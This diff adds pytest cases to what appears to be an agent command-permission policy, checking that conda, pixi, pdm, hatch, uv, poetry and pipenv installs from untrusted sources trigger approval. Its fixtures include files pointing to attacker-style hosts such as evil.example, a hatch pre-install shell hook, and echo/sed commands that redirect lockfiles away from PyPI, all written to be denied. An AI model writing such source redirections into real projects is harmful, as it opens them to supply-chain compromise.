@@ -391,3 +391,139 @@ SIBLING_UPLOADS = [
 @pytest.mark.parametrize("command", SIBLING_UPLOADS)
 def test_sibling_uploads_of_a_secret_are_refused(policy: Policy, gh_ws: Path, command: str) -> None:
     assert _decide(policy, gh_ws, command)[0] is Verdict.DENY, command
+
+
+# ---- (b) pdm, hatch, conda, pixi project files; Python lockfiles ----------------------------------
+
+ENV_BAD = [
+    ("environment.yml", "name: e\nchannels: [conda-forge]\ndependencies:\n  - pip\n  - pip:\n    - https://evil.example/x.whl\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - -e git+https://github.com/e/x.git#egg=x\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - x @ git+https://github.com/e/x\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - --extra-index-url https://e.example/simple\n    - x\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - --index-url=https://e.example/simple\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - -f https://e.example/wheels\n"),
+    ("environment.yml", "name: e\nchannels:\n  - https://e.example/chan\ndependencies:\n  - x\n"),
+    ("environment.yml", "name: e\nchannels:\n  - file:///tmp/chan\ndependencies:\n  - x\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - ../../outside\n"),
+    ("environment.yml", "name: e\ndependencies:\n  - pip:\n    - -e /opt/x\n"),
+    ("environment.yaml", "name: e\ndependencies:\n  - https://e.example/x-1.0-0.tar.bz2\n"),
+    ("pixi.toml", '[workspace]\nname = "p"\nchannels = ["conda-forge", "https://e.example/c"]\nplatforms = ["linux-64"]\n'),
+    ("pixi.toml", '[project]\nname = "p"\nchannels = ["file:///tmp/chan"]\n'),
+    ("pixi.toml", '[workspace]\nchannels = ["conda-forge"]\n[pypi-dependencies]\nx = { git = "https://github.com/e/x" }\n'),
+    ("pixi.toml", '[workspace]\nchannels = ["conda-forge"]\n[pypi-dependencies]\nx = { url = "https://e.example/x.whl" }\n'),
+    ("pixi.toml", '[workspace]\nchannels = ["conda-forge"]\n[pypi-dependencies]\nx = { path = "/opt/x" }\n'),
+    ("pixi.toml", '[workspace]\nchannels = ["conda-forge"]\n[pypi-options]\nextra-index-urls = ["https://e.example/simple"]\n'),
+    ("pixi.toml", '[workspace]\nchannels = ["conda-forge"]\n[pypi-options]\nfind-links = [{url = "https://e.example"}]\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.pdm.resolution.overrides]\nx = "https://e.example/x.whl"\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.pdm.resolution.overrides]\nx = "git+https://github.com/e/x"\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.pdm.dev-dependencies]\ntest = ["x @ git+https://github.com/e/x"]\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.hatch.envs.default]\ndependencies = ["x @ https://e.example/x.whl"]\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.hatch.envs.default.env-vars]\nPIP_EXTRA_INDEX_URL = "https://e.example/simple"\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.hatch.envs.default]\npre-install-commands = ["sh x.sh"]\n'),
+    ("pyproject.toml", '[project]\nname = "d"\n[tool.pixi.workspace]\nchannels = ["conda-forge"]\n[tool.pixi.pypi-dependencies]\nx = { git = "https://e.example/x" }\n'),
+]  # fmt: skip
+ENV_INSTALLS = {
+    "environment.yml": ["conda env create -f environment.yml", "conda env create", "mamba env update",
+                        "micromamba create -f environment.yml", "conda env update --file environment.yml"],
+    "environment.yaml": ["conda env create -f environment.yaml", "mamba env create --file=environment.yaml"],
+    "pixi.toml": ["pixi install", "pixi run test", "pixi shell"],
+    "pyproject.toml": ["pdm install", "pdm sync", "hatch env create", "hatch run test", "pixi install"],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text"), ENV_BAD)
+def test_env_manager_sources_ask(policy: Policy, proj: Path, name: str, text: str) -> None:
+    _write(proj, {name: text})
+    for command in ENV_INSTALLS[name]:
+        if "pdm" in command and "pdm" not in text and "@" not in text:
+            continue
+        if "hatch" in command and "hatch" not in text and "@" not in text:
+            continue
+        if "pixi" in command and name == "pyproject.toml" and "pixi" not in text:
+            continue
+        assert _decide(policy, proj, command) == (Verdict.ASK, SOURCE), (text, command)
+
+
+PY_LOCK_BAD = [
+    ("poetry.lock", '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "git"\nurl = "https://github.com/e/x.git"\nreference = "main"\n', "poetry install"),
+    ("poetry.lock", '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "url"\nurl = "https://e.example/x.whl"\n', "poetry install"),
+    ("poetry.lock", '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "directory"\nurl = "../../outside"\n', "poetry install"),
+    ("uv.lock", '[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://e.example/simple" }\n', "uv sync"),
+    ("uv.lock", '[[package]]\nname = "x"\nversion = "1"\nsource = { git = "https://github.com/e/x?rev=a#abc" }\n', "uv sync"),
+    ("uv.lock", '[[package]]\nname = "x"\nversion = "1"\nsource = { path = "../../x.whl" }\n', "uv run pytest"),
+    ("uv.lock", '[[package]]\nname = "x"\nversion = "1"\nsource = { directory = "/opt/x" }\n', "uv sync"),
+    ("uv.lock", '[[package]]\nname = "x"\nsdist = { url = "https://e.example/x.tar.gz" }\n', "uv sync"),
+    ("Pipfile.lock", '{"default": {"x": {"git": "https://github.com/e/x.git", "ref": "abc"}}}', "pipenv install"),
+    ("Pipfile.lock", '{"default": {"x": {"file": "https://e.example/x.whl"}}}', "pipenv sync"),
+    ("Pipfile.lock", '{"default": {"x": {"path": "../../x"}}}', "pipenv install"),
+    ("Pipfile.lock", '{"_meta": {"sources": [{"url": "https://e.example/simple"}]}}', "pipenv sync"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text", "command"), PY_LOCK_BAD)
+def test_python_lockfile_sources_ask(
+    policy: Policy, proj: Path, name: str, text: str, command: str
+) -> None:
+    _write(proj, {name: text})
+    assert _decide(policy, proj, command) == (Verdict.ASK, SOURCE), (text, command)
+
+
+ENV_WRITES = [
+    "echo '    - https://e.example/x.whl' >> environment.yml",
+    "echo '    - -e git+https://e.example/x' >> environment.yml",
+    "echo '    - --extra-index-url https://e' >> environment.yaml",
+    "sed -i 's/conda-forge/https:\\/\\/e.example/' environment.yml",
+    "echo 'channels = [\"https://e.example\"]' >> pixi.toml",
+    "echo 'x = { git = \"https://e.example/x\" }' >> pixi.toml",
+    "echo 'x = { path = \"/opt/x\" }' >> pixi.toml",
+    "sed -i 's#pypi.org#e.example#' uv.lock",
+    "sed -i 's#files.pythonhosted.org#e.example#' poetry.lock",
+    "echo 'source = { registry = \"https://e\" }' >> uv.lock",
+    "echo 'PIP_INDEX_URL = \"https://e\"' >> pyproject.toml",
+    "echo 'pre-install-commands = [\"sh x\"]' >> pyproject.toml",
+    "echo '    - ../../x' >> conda-env.yml",
+    "echo 'channels: [file:///tmp/c]' > env.yml",
+    'echo \'{"git": "https://e"}\' > Pipfile.lock',
+    "echo 'url = \"https://e\"' >> pdm.lock",
+    "echo '- https://e.example/x.tar.bz2' >> sub/environment-dev.yml",
+    "printf 'channels:\\n  - https://e\\n' > environment.yml",
+    "echo 'UV_INDEX_URL = \"https://e\"' >> pyproject.toml",
+    "echo 'extra-index-urls = [\"https://e\"]' >> pixi.toml",
+]
+
+
+@pytest.mark.parametrize("command", ENV_WRITES)
+def test_writing_an_environment_source_is_denied(policy: Policy, proj: Path, command: str) -> None:
+    _write(proj, {"sub/x": "x\n"})
+    assert _decide(policy, proj, command)[0] is Verdict.DENY, command
+
+
+ENV_GOOD = [
+    ("environment.yml", "name: e\nchannels:\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - requests==2.31\n    - -e .\n"),
+    ("pixi.toml", '[workspace]\nname = "p"\nchannels = ["conda-forge", "https://prefix.dev/conda-forge"]\nplatforms = ["linux-64"]\nhomepage = "https://github.com/a/b"\n[pypi-dependencies]\np = { path = ".", editable = true }\n'),
+    ("pyproject.toml", '[project]\nname = "d"\ndependencies = ["httpx"]\n[project.urls]\nHomepage = "https://github.com/a/b"\n[tool.hatch.envs.default]\ndependencies = ["pytest"]\n'),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text"), ENV_GOOD)
+def test_env_manager_controls(policy: Policy, proj: Path, name: str, text: str) -> None:
+    """The programs still ask as unlisted, but not for a source."""
+    _write(proj, {name: text})
+    for command in ENV_INSTALLS[name]:
+        assert _decide(policy, proj, command)[1] != SOURCE, command
+
+
+PY_LOCK_GOOD = [
+    ("uv.lock", 'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/x-1.tar.gz", hash = "sha256:ab" }\n[[package]]\nname = "d"\nversion = "0"\nsource = { editable = "." }\n'),
+    ("poetry.lock", '[[package]]\nname = "x"\nversion = "1"\nfiles = [\n    {file = "x-1.whl", hash = "sha256:ab"},\n]\n[metadata]\ncontent-hash = "ab"\n'),
+    ("Pipfile.lock", '{"_meta": {"sources": [{"name": "pypi", "url": "https://pypi.org/simple", "verify_ssl": true}]}, "default": {"x": {"hashes": ["sha256:ab"], "version": "==1"}}}'),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text"), PY_LOCK_GOOD)
+def test_python_lockfile_controls(policy: Policy, proj: Path, name: str, text: str) -> None:
+    _write(proj, {name: text})
+    for command in ("uv sync", "uv run pytest", "poetry install", "pipenv install"):
+        assert _decide(policy, proj, command)[0] is Verdict.ALLOW, (name, command)
+    for command in ("echo '  - numpy' >> environment.yml", "cat uv.lock", "git diff poetry.lock"):
+        assert _decide(policy, proj, command)[0] is Verdict.ALLOW, command
